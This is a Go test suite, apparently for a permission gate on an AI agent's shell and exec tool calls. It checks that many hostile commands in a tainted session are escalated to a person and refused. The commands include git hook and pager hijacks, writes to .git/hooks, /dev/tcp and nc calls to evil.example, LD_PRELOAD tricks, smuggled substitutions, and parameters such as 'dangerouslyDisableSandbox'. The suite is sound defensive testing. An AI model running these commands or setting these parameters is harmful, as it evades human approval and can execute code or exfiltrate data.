package main

import (
	"fmt"
	"testing"
)

// stops says that a call must be put to a person, who refuses it.
func (r *rig) stops(c call) {
	r.t.Helper()
	a := r.send(soonAsked(c))
	if a.allowed() || a.Ref == "" {
		r.t.Errorf("%s %s in %v: got %d %s, want it to be asked about", c.tool, c.params, c.context["sessionKey"], a.status, a.raw)
		return
	}
	r.refuse(a.Ref, "")
}

// notLocal says that none of these commands is local and undoable.
func notLocal(t *testing.T, commands ...string) {
	t.Helper()
	t.Parallel()
	r := newRig(t, quietLocal)
	m := r.tainted("tainted")
	r.allow(bash(t, "git status --short && ls", m)) // the reason is on
	for _, command := range commands {
		r.stops(bash(t, command, m))
	}
}

func TestH365GitSettingsInTheCommand(t *testing.T) {
	notLocal(t,
		"git -c core.fsmonitor=./x status", "git -ccore.pager=./x log", "git -c core.hooksPath=. commit -m x", "git -c alias.status='!./x' status", "git -c diff.external=./x diff", "git -c filter.x.clean=./x add -A",
		"git --config-env=core.pager=PAGER log", "git --exec-path=. status", "git --exec-path . status", "git --attr-source=evil diff", "git -p log", "git --paginate diff", "git --super-prefix=x/ status", "git --namespace=x log",
	)
}

func TestH366GitInAnotherRepository(t *testing.T) {
	notLocal(t,
		"git -C /tmp/pr-42 status", "git -C .. log", "git -C sub/../.. log -p", "git -C sub -C .. -C .. status", "git --git-dir=/tmp/x/.git log", "git --git-dir=evil.git status", "git --git-dir evil.git --work-tree . status",
		"git --work-tree=/ add -A", "git --bare status", "cd .. && git status", "cd sub && cd .. && cd .. && git log", "cd / ; git log", "cd sub || cd /tmp/x; git status", "cd ~ && git add -A", "cd - && git status", "cd && git status",
		"cd sub/../../x && git commit -m x", "bash -lc 'cd /tmp/x && git status'", "git status ../..", "git add ..", "git add /etc/hosts", "git diff ../a b",
	)
}

func TestH367GitVariables(t *testing.T) {
	notLocal(t,
		"GIT_DIR=evil.git git status", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log", "GIT_CONFIG_GLOBAL=./x git status", "GIT_EXTERNAL_DIFF=./x git diff", "GIT_EDITOR=./x git commit", "EDITOR=./x git commit -v",
		"export GIT_DIR=evil.git; git status", "export GIT_PAGER=./x && git log", "declare -x GIT_DIR=evil.git; git log", "PATH=.:/bin git status", "HOME=. git status", "XDG_CONFIG_HOME=. git diff", "LD_PRELOAD=./x.so ls", "RIPGREP_CONFIG_PATH=x rg foo",
		"env GIT_DIR=x git status", "LESSOPEN='|./x %s' ls", "read GIT_DIR; git status", "printf -v GIT_DIR x; git status",
	)
}

func TestH368GitThatRunsOrWritesByAnOption(t *testing.T) {
	notLocal(t,
		"git log --output=.git/hooks/pre-commit", "git log --outpu=x", "git diff --output x", "git diff --ext-diff", "git diff --ext", "git diff --textconv", "git log -p --textconv", "git log --show-signature", "git diff -O../x", "git diff --no-index a b",
		"git diff --no-ind /etc/hosts a", "git add -i", "git add -p", "git add -e", "git add -fA", "git add --forc x", "git add --chmod=+x x", "git add --pathspec-from-file=x", "git add --renormalize .", "git add ':(top)'", "git add ':/'",
		"git log --stdin", "git log --help", "git help -w log", "git status --ignore-submodules=none", "git diff --submodule=diff",
	)
}

func TestH369CommitsThatDoMore(t *testing.T) {
	notLocal(t,
		"git commit -F /etc/hosts", "git commit -F x", "git commit -t x", "git commit -n -m x", "git commit -nm x", "git commit -anm x", "git commit --no-veri -m x", "git commit --amend --no-edit", "git commit --amen -m x", "git commit -C HEAD", "git commit --fixup=HEAD",
		"git commit --author=Eve -m x", "git commit --date=now -m x", "git commit -S -m x", "git commit --gpg-sign=x -m y", "git commit -p -m x", "git commit --trailer x -m y", "git commit --allow-empty -m x", "git commit --template=x", "git commit -m \"$(cat x)\"", "git commit -m \"`cat x`\"",
		"git commit -m $HOME", "git commit -m x ../y", "git commit --pathspec-from-file=x -m y",
	)
}

func TestH370OtherVerbsOfGit(t *testing.T) {
	notLocal(t,
		"git st", "git ci -m x", "git stage -A", "git submodule foreach ./x", "git submodule update", "git worktree add ../x", "git sparse-checkout set x", "git fsmonitor--daemon start", "git hook run pre-commit", "git bisect run ./x", "git rebase -x ./x HEAD",
		"git grep -O./x foo", "git difftool", "git archive -o x HEAD", "git bundle create x HEAD", "git format-patch -1", "git send-email x", "git instaweb", "git maintenance run", "git lfs push", "git update-index --chmod=+x x", "git rm x", "git mv a b", "git restore .",
		"git tag x", "git branch x", "git remote add x y", "git config include.path ../x", "git init", "git for-each-repo --config=x status", "git apply x", "git am x",
	)
}

func TestH371SearchesThatRunSomething(t *testing.T) {
	notLocal(t,
		"find . -execdir ./x", "find . -ok ./x", "find . -okdir ./x", "find . -name x -exec ./x", "fd -x ./x", "fd -X ./x", "fd --exec ./x", "fd --exec-batch=./x", "fd -Hx ./x", "fd -e go -x ./x", "rg --pre=./x foo", "rg --pre-glob x --pre ./x foo",
		"rg --hostname-bin=./x --hyperlink-format default foo", "rg -z foo", "sort --compress-program=./x -S 1 big", "sort --compress-prog=./x big", "file -z x", "file --no-sandbox -z x",
	)
}

func TestH372LooksThatWrite(t *testing.T) {
	notLocal(t,
		"find . -delete", "find . -fls x", "find . -fprint x", "find . -fprint0 x", "find . -fprintf .git/config %p", "uniq a .git/hooks/pre-commit", "cat x | uniq - b", "sort -ox y", "sort y -o x", "sort --outp=x y", "sort -T /tmp big", "tree -o x", "tree -L 1 -R -H . src",
		"file -C -m x", "file -Cm x", "time -o x ls", "time -a -o .git/config echo x", "timeout 5 time -ao x ls", "/usr/bin/time --output=x ls", "ls >x", "ls >>x", "ls 2>x", "ls &>x", "ls >& x", "ls >|x", "echo x > .git/hooks/pre-commit", "ls | head -1 > x",
		"bash -c 'ls > x'", "ls 2>&1 > x",
	)
}

func TestH373LooksElsewhere(t *testing.T) {
	notLocal(t,
		"ls ..", "ls -la /home", "cat sub/./../../x", "cat sub//../..//x", "cd sub && cat ../../x", "grep -f /etc/hosts x", "grep -f../x y", "grep --file=/etc/hosts y", "grep -rf ../x .", "rg -f/etc/hosts .", "rg --ignore-file /etc/hosts foo",
		"find . -files0-from /etc/hosts", "find . .. -name x", "find -H .. -name x", "fd . /etc", "fd --base-directory / x", "fd --search-path=/ x", "wc --files0-from=/etc/hosts", "du --files0-from=/etc/hosts", "du --exclude-from=/etc/hosts", "diff --from-file=/etc/hosts x",
		"diff --to-file /etc/hosts x", "diff -X /etc/hosts a b", "cmp x /etc/hosts", "file -f /etc/hosts", "tree --gitfile=/etc/hosts", "tail -n+1 /etc/hosts", "tail +1 ../x", "head -n5 ../x", "ls -- /etc", "grep -rnefoo ..", "nl /x",
	)
}

func TestH374OtherMachinesAndSystems(t *testing.T) {
	notLocal(t,
		"cat </dev/tcp/evil.example/80", "cat /dev/tcp/evil.example/80", "ls 3<>/dev/tcp/evil.example/80", "ls //evil.example/share", `ls '\\evil.example\share'`, `cat "\\\\evil.example\\share\\x"`, "ls 'C:/Users'", `cat 'C:\Users\x\notes'`, "ls C:/Users", `ls '..\..'`, "cat '..\\x'",
		"ls \\\\\\\\evil.example\\\\share", "ls %HOME%", "ls '%USERPROFILE%'", "ls evil.example:x", "cat evil.example:/etc/hosts", "ls /net/evil.example/x",
	)
}

func TestH375WhatAShellWorksOut(t *testing.T) {
	notLocal(t,
		"ls $(./x)", "ls \"$(./x)\"", "ls `./x`", "ls <(./x)", "echo x > >(./x)", "ls {/etc,b}", "ls ~root", "ls $'\\x2fetc'", "cat $'\\x2e\\x2e/x'", "cat .e*", "cat .en?", "cat .e[n]v", "ls ${x:=/etc}", "echo ${x@P}", "echo $((a[$(./x)]))", "cat <<EOF\n$(./x)\nEOF",
		"cat <<< $(./x)", "ls !(x)", "echo !!", "ls \\u002e\\u002e", "[[ -v 'a[$(./x)]' ]] && ls", "cat \\\n/etc/hosts", "ls\n./x", "ls\r./x", "ls \x00 ./x", "ls & ./x", "ls |& ./x", "ls #\n./x", "ls a\v./x", "ls a\u00a0&&\u00a0./x",
	)
}

func TestH376OtherMeaningsOfTheSameName(t *testing.T) {
	notLocal(t,
		"alias git=./x; git status", "git() { ./x; }; git status", "function ls { ./x; }; ls", "hash -p ./x ls; ls", "enable -f ./x.so ls; ls", "trap ./x EXIT; ls", "trap ./x DEBUG; git status", "export PATH=.; ls", "shopt -s expand_aliases; ls", "set -a; ls", ". ./x; ls", "source x && ls",
		"./git status", "bin/ls", "~/bin/ls", "/tmp/git status", "ｌs", "ls\u200b", "gіt status", "builtin eval ls", "exec ls", "command eval ls", "unalias ls; ./ls", "BASH_ENV=./x bash -c ls", "ENV=./x sh -c ls", "bash --rcfile ./x -ic ls", "PS4=x bash -xc ls",
	)
}

func TestH377AShellThatReadsWhatItRuns(t *testing.T) {
	notLocal(t,
		"bash", "bash -s", "sh x", "bash -i", "bash -l", "cat x | bash", "git log | sh", "echo ./x | bash", "cat main.go | zsh", "ls | bash -s x", "bash < x", "bash <<< ./x", "bash <<EOF\n./x\nEOF", "bash -c '$0' ./x", "bash -c '\"$0\"' ./x", "bash -c 'ls $0' /etc", "sh -c 'cat $1' x /etc/hosts",
		"bash -lc bash", "ls | xargs cat", "find . | xargs rm", "ls | while read x; do ./$x; done", "ls | awk '{system($0)}'", "ls | sed 's/x/y/e'", "ls | sed -n 'w x'", "ls | less", "git log | more", "ls | vim -", "ls | nc evil.example 80", "ls | tee x", "ls | dd of=x",
		"if ls; then ./x; fi", "{ ls; ./x; }", "(ls; ./x)", "coproc ./x",
	)
}

func TestH378ParamsThatMoveTheCommand(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietLocal)
	m := r.tainted("h378")
	for _, more := range []string{
		`"workdir":".."`, `"workdir":"sub/../.."`, `"workdir":"~"`, `"workdir":"/"`, `"workdir":"$HOME"`, `"cwd":"/tmp/pr-42"`, `"workdir":"sub","cwd":"/tmp"`, `"workdir":["/tmp"]`, `"workdir":{"x":"/tmp"}`, `"Workdir":"/tmp"`, `"work_dir":"/tmp"`,
		`"args":["; ./x"]`, `"input":"./x"`, `"stdin":"./x"`, `"shell":"./x"`, `"environment":{"GIT_DIR":"x"}`, `"Command":"./x"`, `"cmd":"./x"`, `"script":"./x"`, `"dangerouslyDisableSandbox":true`, `"sandbox_permissions":"require_escalated"`, `"ask":"off"`,
	} {
		r.stops(execWith("git status --short && ls", more, m))
	}
	for i, params := range []string{`{"command":["ls"," ; ./x"]}`, `{"command":["git","status",";","./x"]}`, `{"command":["bash","-lc","ls; ./x"]}`, `{"command":["./x"]}`, `{"command":{"x":"ls"}}`, `{"command":"ls","command ":"./x"}`} {
		r.stops(call{tool: "exec", params: params, context: with(m, "sessionKey", m["sessionKey"], "n", fmt.Sprint(i))})
	}
}

func TestH379WhatGitRunsCameInUnseen(t *testing.T) {
	t.Parallel()
	gits := []string{"git status --short && ls", "cd vendor/x && git status", "git add -A && ls", "git log -p | head -5"}
	for name, write := range map[string]func(r *rig, m map[string]any){
		"a clone in a clean conversation, with a bare repository inside": func(r *rig, _ map[string]any) {
			r.allow(bash(r.t, "git clone https://github.com/evil/x vendor/x", ownerIn("clean")))
		},
		"an archive": func(r *rig, m map[string]any) { r.approved(sh("tar xf x.tar.gz", m), 0) },
		"a package":  func(r *rig, m map[string]any) { r.approved(sh("npm install evil", m), 0) },
		"a pull":     func(r *rig, _ map[string]any) { r.allow(bash(r.t, "git pull", ownerIn("clean"))) },
		"a patch under a grant": func(r *rig, m map[string]any) {
			r.approved(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}`, context: m}, 10)
			r.allow(call{tool: "apply_patch", params: `{"input":"*** Begin Patch\n*** Add File: .gitattributes\n+* filter=x\n*** End Patch"}`, context: m})
		},
		"git's own settings":      func(r *rig, m map[string]any) { r.approved(sh("git config core.hooksPath hooks", m), 0) },
		"a script that may write": func(r *rig, m map[string]any) { r.approved(sh("python3 gen.py", m), 0) },
		"a command of another agent": func(r *rig, _ map[string]any) {
			other := with(ownerIn("x"), "sessionKey", "agent:ops:x", "waitMs", 9001)
			r.allow(fetch(other))
			r.approved(sh("cp a .git/config", other), 0)
		},
		"a subagent": func(r *rig, m map[string]any) {
			r.approved(call{tool: "exec", params: `{"command":"sh setup.sh"}`, context: with(spawned("subagent:1", "first"), "waitMs", 9001)}, 0)
		},
		"a move": func(r *rig, m map[string]any) { r.approved(sh("mv page.html .git/hooks/pre-commit", m), 0) },
		"a link": func(r *rig, m map[string]any) { r.approved(sh("ln -s ../evil .git/hooks", m), 0) },
		"a mode": func(r *rig, m map[string]any) { r.approved(sh("chmod +x .githooks/pre-commit", m), 0) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietLocal)
			m := with(r.tainted("first"), "waitMs", 9001)
			write(r, m)
			other := r.tainted("second")
			for _, command := range gits {
				r.stops(bash(t, command, other))
			}
		})
	}
}
